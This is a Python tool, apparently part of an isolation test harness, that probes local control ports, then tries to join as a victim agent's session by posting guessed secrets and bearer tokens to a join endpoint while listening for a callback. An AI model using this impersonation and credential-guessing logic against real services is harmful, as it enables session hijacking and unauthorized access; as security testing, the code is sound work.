import json
import socket
import urllib.error
import urllib.request

from promptflow import tool


def try_connect(host, port):
    try:
        with socket.create_connection((host, port), timeout=3):
            return "connected"
    except OSError as e:
        return f"refused: {e.__class__.__name__} errno {e.errno}"


@tool
def attack(probe: dict) -> dict:
    report = {"ports": {}}
    for port in probe["control_ports"]:
        report["ports"][str(port)] = try_connect("127.0.0.1", port)
    # The server's own port is not the cluster's: reachable, as the agent's join needs.
    report["server"] = try_connect("127.0.0.1", probe["server_port"])

    # Listen where the server would dial a joined agent, then join as the victim's agent with
    # every value the job list shows, and guesses for the rest.
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.settimeout(3)
    addr = "127.0.0.1:%d" % listener.getsockname()[1]
    guesses = [v for v in probe["job_env"].values() if isinstance(v, str)]
    guesses += ["00" * 32, probe.get("commitment") or "11" * 32]
    report["joins"] = []
    for guess in guesses:
        hexed = guess if len(guess) == 64 else (guess.encode().hex() * 64)[:64]
        body = json.dumps({
            "session_id": probe["victim"],
            "addr": addr,
            "secret": hexed,
            "token": "22" * 32,
        }).encode()
        req = urllib.request.Request(
            probe["join_url"], data=body, method="POST",
            headers={"content-type": "application/json", "authorization": "Bearer " + guess},
        )
        try:
            with urllib.request.urlopen(req, timeout=30) as resp:
                report["joins"].append([resp.status, resp.read().decode()[:200]])
        except urllib.error.HTTPError as e:
            report["joins"].append([e.code, e.read().decode()[:200]])
        except OSError as e:
            report["joins"].append([0, str(e)])
    try:
        conn, _ = listener.accept()
        conn.close()
        report["dialled"] = True
    except OSError:
        report["dialled"] = False
    return report
